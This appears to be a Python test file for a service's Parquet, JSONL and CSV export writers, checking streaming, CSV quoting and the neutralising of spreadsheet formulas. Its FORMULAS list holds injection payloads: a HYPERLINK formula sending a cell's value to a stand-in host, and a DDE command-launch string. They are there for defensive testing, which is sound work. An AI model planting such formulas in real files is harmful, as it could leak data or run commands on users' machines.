"""The flat export writers on plain rows: they stream (bytes leave before the rows run out) and CSV quotes
what RFC 4180 says must be quoted."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import pyarrow.parquet as pq

from services.store.exports import writers
from services.store.exports.columns import Column, Kind

COLUMNS = (
    Column("id", Kind.INT, ""),
    Column("text", Kind.STR, ""),
    Column("day", Kind.DATE, ""),
    Column("at", Kind.DATETIME, ""),
    Column("names", Kind.LIST, ""),
    Column("nested", Kind.JSON, ""),
    Column("flag", Kind.BOOL, ""),
)


def row(n: int) -> dict[str, Any]:
    return {
        "id": n,
        "text": f"Indstillingen, som \"ændret\",\ngodkendes ({n}).",
        "day": dt.date(2025, 1, 1) + dt.timedelta(days=n % 300),
        "at": dt.datetime(2025, 1, 1, 12, 30, 15, 250_000, tzinfo=dt.UTC) + dt.timedelta(seconds=n),
        "names": ["Anna Jensen (A)", "Bo Hansen, V"] if n % 2 else [],
        "nested": [{"name": "Beslutning", "text": "Godkendt; se bilag"}],
        "flag": bool(n % 3),
    }


class Source:
    """Rows 0..total-1, remembering how many were handed out (to tell streaming from buffering)."""

    def __init__(self, total: int) -> None:
        self.total = total
        self.pulled = 0

    async def __aiter__(self) -> AsyncIterator[dict[str, Any]]:
        for n in range(self.total):
            self.pulled += 1
            yield row(n)


async def _first_chunk_after(writer: Any, total: int) -> tuple[int, bytes]:
    source = Source(total)
    chunks = writer(COLUMNS, source.__aiter__())
    first = await anext(chunks)
    pulled_at_first = source.pulled
    assert len(first) > 0  # bytes really left the writer (not an empty flush)
    rest = b"".join([c async for c in chunks])
    assert source.pulled == total
    return pulled_at_first, first + rest


async def test_parquet_writes_a_row_group_at_a_time() -> None:
    total = writers.ROW_GROUP_ROWS * 3 + 17
    pulled_at_first, data = await _first_chunk_after(writers.write_parquet, total)
    # The first row group left the writer while most rows were still unread: memory holds one group.
    assert pulled_at_first <= writers.ROW_GROUP_ROWS + 1
    meta = pq.ParquetFile(io.BytesIO(data)).metadata
    assert meta.num_rows == total
    assert meta.num_row_groups == 4
    table = pq.read_table(io.BytesIO(data))
    assert table.column("id").to_pylist() == list(range(total))
    assert table.column("at").to_pylist()[1] == row(1)["at"]
    assert table.column("names").to_pylist()[1] == ["Anna Jensen (A)", "Bo Hansen, V"]


async def test_jsonl_and_csv_stream_in_chunks() -> None:
    total = writers.TEXT_CHUNK_ROWS * 4
    for writer in (writers.write_jsonl, writers.write_csv):
        pulled_at_first, _ = await _first_chunk_after(writer, total)
        assert pulled_at_first <= writers.TEXT_CHUNK_ROWS + 1, writer


async def test_csv_quotes_commas_quotes_and_line_breaks_and_reads_back() -> None:
    source = Source(50)
    data = b"".join([c async for c in writers.write_csv(COLUMNS, source.__aiter__())])
    assert b"\r\n" in data and data.endswith(b"\r\n")
    parsed = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert len(parsed) == 50
    for n, got in enumerate(parsed):
        want = row(n)
        assert got["text"] == want["text"]
        assert got["day"] == want["day"].isoformat()
        assert dt.datetime.fromisoformat(got["at"]) == want["at"]
        assert (got["names"].split("; ") if got["names"] else []) == want["names"]
        assert json.loads(got["nested"]) == want["nested"]
        assert got["flag"] == ("true" if want["flag"] else "false")
    # A field with a quote is quoted and its quote doubled (RFC 4180 §2.7).
    assert b'"Indstillingen, som ""\xc3\xa6ndret"",\ngodkendes (0)."' in data


async def test_jsonl_lines_are_one_object_each_with_iso_dates() -> None:
    source = Source(3)
    lines = b"".join([c async for c in writers.write_jsonl(COLUMNS, source.__aiter__())]).decode().splitlines()
    assert len(lines) == 3
    first = json.loads(lines[1])
    assert first["day"] == "2025-01-02"
    assert first["at"] == "2025-01-01T12:30:16.250000+00:00"
    assert first["names"] == ["Anna Jensen (A)", "Bo Hansen, V"]
    assert list(first) == [c.name for c in COLUMNS]


async def test_parquet_row_groups_also_end_at_a_text_budget() -> None:
    # Items with long sections: a row group ends at ROW_GROUP_TEXT_BYTES of text, not only at a row count.
    long_text = "x" * (1024 * 1024)
    per_group = -(-writers.ROW_GROUP_TEXT_BYTES // len(long_text))  # rows that fill one group's budget

    async def rows() -> AsyncIterator[dict[str, Any]]:
        for n in range(per_group * 2 + 1):
            yield {**row(n), "text": long_text}

    data = b"".join([c async for c in writers.write_parquet(COLUMNS, rows())])
    meta = pq.ParquetFile(io.BytesIO(data)).metadata
    assert meta.num_rows == per_group * 2 + 1
    assert meta.num_row_groups == 3


FORMULAS = ['=HYPERLINK("http://example.invalid/?d="&A1,"Se bilag")', "@SUM(1+1)*cmd|' /C calc'!A0", "+45 12 34 56 78",
            "-2+3", "\tTab først", "\rRetur først"]


async def _csv_rows(rows: list[dict[str, Any]], raw: bool) -> list[dict[str, str]]:
    async def source() -> AsyncIterator[dict[str, Any]]:
        for r in rows:
            yield r

    text = b"".join([c async for c in writers.write_csv(COLUMNS, source(), raw=raw)]).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_csv_text_cells_a_spreadsheet_would_run_start_with_a_quote() -> None:
    rows = [{**row(n), "id": -n, "text": text, "names": [text, "Bo Hansen"]} for n, text in enumerate(FORMULAS, 1)]
    got = await _csv_rows(rows, raw=False)
    assert [r["text"] for r in got] == ["'" + text for text in FORMULAS]
    assert [r["names"] for r in got] == [f"'{text}; Bo Hansen" for text in FORMULAS]
    # Numbers stay numbers, negative ones included: only text is neutralised.
    assert [r["id"] for r in got] == [str(-n) for n in range(1, len(FORMULAS) + 1)]
    # JSON text starts with `[` or `{`, never a formula: written as it is.
    assert json.loads(got[0]["nested"]) == row(1)["nested"]


async def test_csv_text_that_only_contains_formula_characters_is_left_alone() -> None:
    plain = ["Godkendt med 5 stemmer mod 2 (=flertal)", "Anna Jensen (A) - formand", "E-mail: a@b.dk", ""]
    got = await _csv_rows([{**row(n), "text": text} for n, text in enumerate(plain)], raw=False)
    assert [r["text"] for r in got] == plain


async def test_csv_raw_writes_every_cell_as_stored() -> None:
    rows = [{**row(n), "text": text, "names": [text]} for n, text in enumerate(FORMULAS)]
    got = await _csv_rows(rows, raw=True)
    assert [r["text"] for r in got] == FORMULAS
    assert [r["names"] for r in got] == FORMULAS
